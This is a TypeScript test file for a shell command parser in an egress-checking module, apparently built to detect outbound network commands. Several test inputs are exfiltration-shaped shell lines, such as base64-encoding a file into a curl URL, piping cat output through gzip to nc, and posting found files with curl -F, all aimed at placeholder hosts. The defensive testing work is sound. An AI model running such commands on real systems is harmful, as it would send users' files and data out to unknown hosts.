import { describe, expect, it } from 'vitest';
import { displayWord, parseCommandLine, SUBST } from '../../src/egress/shell.ts';

const argvs = (text: string) => parseCommandLine(text).commands.filter((c) => c.argv.length).map((c) => c.argv.map(displayWord));

describe('shell reader', () => {
  it('splits on every separator', () => {
    expect(argvs('a 1; b 2 && c || d | e & f\ng')).toEqual([['a', '1'], ['b', '2'], ['c'], ['d'], ['e'], ['f'], ['g']]);
  });

  it('removes quotes and escapes the way bash does', () => {
    expect(argvs(`echo 'a b' "c \\"d\\"" e\\ f $'g\\th' "$'x'"`)).toEqual([['echo', 'a b', 'c "d"', 'e f', 'g\th', "$'x'"]]);
  });

  it('keeps a quoted command as a string, not a command', () => {
    expect(argvs('echo "curl 10.0.0.1; nc x 1"')).toEqual([['echo', 'curl 10.0.0.1; nc x 1']]);
  });

  it('strips assignments and wrappers, keeping what they were', () => {
    const [command] = parseCommandLine('A=1 sudo -u bob -E timeout -s KILL 5 nice -n 3 curl x').commands;
    expect(command!.argv).toEqual(['curl', 'x']);
    expect(command!.assignments).toEqual([['A', '1']]);
    expect(command!.wrappers).toEqual(['sudo', 'timeout', 'nice']);
  });

  it('parses shell -c strings, eval, here-documents and echoed scripts', () => {
    expect(argvs("bash -lc 'curl a; wget b'")).toEqual([['curl', 'a'], ['wget', 'b']]);
    expect(argvs('eval "nc h 1"')).toEqual([['nc', 'h', '1']]);
    expect(argvs('sh <<EOF\ncurl c\nEOF')).toEqual([['curl', 'c']]);
    expect(argvs("echo 'curl d' | sh")).toEqual([['curl', 'd'], ['echo', 'curl d']]);
  });

  it('follows command substitutions and links them to the command they feed', () => {
    const parsed = parseCommandLine('curl "https://x/$(cat f | base64)"');
    const curl = parsed.commands.find((c) => c.argv[0] === 'curl')!;
    expect(curl.argv[1]).toBe(`https://x/${SUBST}`);
    expect(curl.substitutions.map((c) => c.argv[0])).toEqual(['cat', 'base64']);
  });

  it('records pipes as stdin sources', () => {
    const parsed = parseCommandLine('(cat a; cat b) | gzip | nc h 1');
    const nc = parsed.commands.find((c) => c.argv[0] === 'nc')!;
    expect(nc.stdinFrom.map((c) => c.argv[0])).toEqual(['gzip']);
    const gzip = nc.stdinFrom[0]!;
    expect(gzip.stdinFrom.map((c) => c.argv.join(' '))).toEqual(['cat a', 'cat b']);
  });

  it('tracks variables assigned earlier on the line', () => {
    expect(argvs('H=10.0.0.1; P=80; nc $H ${P}')).toEqual([['nc', '10.0.0.1', '80']]);
    expect(argvs('nc ${H:-fallback.example} 1')).toEqual([['nc', 'fallback.example', '1']]);
    expect(argvs('nc $UNSET 1')).toEqual([['nc', '$UNSET', '1']]);
  });

  it('keeps redirections, here-strings and here-document bodies', () => {
    const [command] = parseCommandLine('nc h 1 < in.txt 2>/dev/null <<< "data"').commands;
    expect(command!.redirects.map((r) => [r.fd, r.op, r.target])).toEqual([[null, '<', 'in.txt'], [2, '>', '/dev/null'], [null, '<<<', 'data']]);
    const [doc] = parseCommandLine('cat <<-END > f\n\tline 1\n\tEND\necho after').commands;
    expect(doc!.redirects[0]!.text).toBe('line 1');
  });

  it('skips comments and reserved words', () => {
    expect(argvs('# curl a\nif true; then curl b; fi # curl c')).toEqual([['true'], ['curl', 'b']]);
    expect(argvs('for x in 1 2; do echo $x; done')).toEqual([['echo', '$x']]);
  });

  it('runs find -exec and xargs commands', () => {
    expect(argvs('find . -exec curl -F f=@{} h \\;')).toEqual([['find', '.', '-exec', 'curl', '-F', 'f=@{}', 'h', ';'], ['curl', '-F', 'f=@$?', 'h']]);
    expect(argvs('xargs -I{} curl {} < list')).toEqual([['curl', '{}', '$?']]);
  });

  it('is bounded', () => {
    let deep = 'x';
    for (let i = 0; i < 20; i++) deep = `$(echo ${deep})`;
    expect(parseCommandLine(deep).complete).toBe(false);
    expect(parseCommandLine('true;'.repeat(10_000)).complete).toBe(false);
    expect(parseCommandLine('a'.repeat(300_000)).complete).toBe(false);
    const started = Date.now();
    parseCommandLine('"'.repeat(50_000) + '$('.repeat(5_000));
    expect(Date.now() - started).toBeLessThan(2000);
  });
});
